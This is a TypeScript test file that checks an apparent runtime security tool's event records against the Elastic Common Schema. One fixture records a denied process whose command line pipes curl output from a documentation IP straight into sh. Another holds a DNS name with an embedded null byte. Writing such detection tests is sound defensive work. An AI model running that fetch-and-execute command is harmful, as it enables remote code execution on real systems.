/** Every document is made of fields that the Elastic Common Schema 9.4.0 has, of their types. */
import { readFileSync } from "node:fs";
import { isIP } from "node:net";
import { join } from "node:path";
import { kinds, type Kind } from "@pahlevan/core/behaviour/event.ts";
import { describe, expect, it } from "vitest";
import { z } from "zod";
import { acts, time } from "../../test/exporters/acts.ts";
import { examples } from "../examples.ts";
import type { Line } from "../record.ts";
import { ecs, ecsVersion } from "./ecs.ts";

const path = join(import.meta.dirname, "../../test/schemas/ecs-9.4.0.json");
const schema = z
  .object({
    version: z.string(),
    fields: z.record(z.string(), z.union([z.string(), z.tuple([z.string()])])),
    allowed: z.record(z.string(), z.record(z.string(), z.array(z.string()))),
  })
  .parse(JSON.parse(readFileSync(path, "utf8")));

const origin = { host: "node-1", cluster: "west", version: "0.1.0" };
const lines: readonly Line[] = [...examples(time), ...acts];

/** Each leaf with its dotted name; what is Pahlevan's own is not ECS's to judge. */
function leaves(value: unknown, name = ""): (readonly [string, unknown])[] {
  if (name === "pahlevan") return [];
  if (typeof value !== "object" || value === null || Array.isArray(value)) return [[name, value]];
  return Object.entries(value).flatMap(([key, inner]) =>
    leaves(inner, name === "" ? key : `${name}.${key}`),
  );
}

function isOf(type: string, value: unknown): boolean {
  switch (type) {
    case "date":
      return typeof value === "string" && !Number.isNaN(Date.parse(value));
    case "long":
      return Number.isSafeInteger(value);
    case "ip":
      return typeof value === "string" && isIP(value) !== 0;
    case "keyword":
    case "wildcard":
    case "match_only_text":
      return typeof value === "string";
    default:
      throw new Error(`a type that this test does not know: ${type}`);
  }
}

function wrongIn(document: unknown): string[] {
  return leaves(document)
    .filter(([name, value]) => {
      const type = schema.fields[name];
      if (type === undefined) return true;
      if (typeof type === "string") return !isOf(type, value);
      return !Array.isArray(value) || !value.every((one) => isOf(type[0], one));
    })
    .map(([name, value]) => `${name}: ${JSON.stringify(value)}`);
}

function allowedOf(field: string): readonly string[] {
  return Object.keys(schema.allowed[field] ?? {});
}

const categorised = z.object({
  event: z.object({
    kind: z.string(),
    category: z.array(z.string()).min(1),
    type: z.array(z.string()).min(1),
    outcome: z.string().optional(),
  }),
});

describe("a record in ECS", () => {
  it("has only fields of the schema, of their types, whatever the record says", () => {
    expect(lines.flatMap((line) => wrongIn(ecs(line, origin)))).toEqual([]);
    expect(ecsVersion).toBe(schema.version);
  });

  it("is seen by this test where a field is unknown, or of another type", () => {
    expect(wrongIn({ process: { pid: "1", pids: 1 }, event: { category: "file" } })).toEqual([
      'process.pid: "1"',
      "process.pids: 1",
      'event.category: "file"',
    ]);
  });

  it("is of categories and types that are allowed, and that go together", () => {
    for (const line of lines) {
      const { event } = categorised.parse(ecs(line, origin));
      expect(allowedOf("event.kind")).toContain(event.kind);
      expect(allowedOf("event.type")).toEqual(expect.arrayContaining(event.type));
      if (event.outcome !== undefined) expect(allowedOf("event.outcome")).toContain(event.outcome);
      const expected = event.category.flatMap((name) => schema.allowed["event.category"]?.[name]);
      expect(expected).toEqual(expect.arrayContaining(event.type));
    }
  });

  it("is made of every kind of fact that the kernel tells", () => {
    const seen: ReadonlySet<string> = new Set(
      lines.flatMap((line) => ("kind" in line ? [line.kind] : [])),
    );
    const all: readonly string[] = Object.keys(kinds);
    expect(all.filter((kind) => !seen.has(kind))).toEqual([]);
  });

  it("says of a denied program who ran it, where, and by which policy it was denied", () => {
    const [denied] = lines;
    expect(denied && ecs(denied, origin)).toMatchObject({
      "@timestamp": time,
      message:
        "shop/checkout: denied exec /usr/bin/curl by /bin/sh (exec not allowed: no entry of the policy allows it)",
      event: {
        id: "example-1",
        kind: "alert",
        category: ["process", "intrusion_detection"],
        type: ["start", "denied"],
        action: "exec",
        outcome: "success",
        severity: 73,
      },
      rule: { name: "checkout-policy" },
      host: { name: "node-1" },
      process: {
        pid: 4242,
        executable: "/bin/sh",
        command_line: `sh -c 'curl "http://203.0.113.9/x" | sh'`,
        parent: { pid: 4200, name: "node" },
      },
      user: { id: "1000" },
      file: { path: "/usr/bin/curl", name: "curl" },
      container: { name: "checkout", image: { name: "registry.example/shop/checkout" } },
      orchestrator: {
        type: "kubernetes",
        cluster: { name: "west" },
        namespace: "shop",
        resource: { type: "pod", name: "checkout-7d9f8-x2x4z" },
      },
      trace: { id: "0af7651916cd43dd8448eb211c80319c" },
      pahlevan: { workload: "checkout", facet: "exec", mode: "enforce", tier: "lsm" },
    });
  });

  it("has the ends of a connection as addresses, and one to a local socket without", () => {
    expect(ecs(act("connect"), origin)).toMatchObject({
      destination: { ip: "203.0.113.9", port: 443 },
      network: { transport: "tcp", type: "ipv4", direction: "egress" },
      related: { ip: ["10.0.0.7", "203.0.113.9"] },
    });
    expect(ecs(act("accept"), origin)).toMatchObject({
      destination: { ip: "10.0.0.7", port: 8080 },
      source: { ip: "2001:db8::1" },
      network: { direction: "ingress" },
    });
    expect(ecs(act("send"), origin)).not.toHaveProperty("destination");
    expect(ecs(act("dns"), origin)).toMatchObject({
      dns: { question: { name: "evil\\x00.example", type: "A" } },
      destination: { ip: "10.0.0.53" },
    });
  });
});

function act(kind: Kind): Line {
  const found = acts.find((line) => line.kind === kind);
  if (found === undefined) throw new Error(`no example of ${kind}`);
  return found;
}
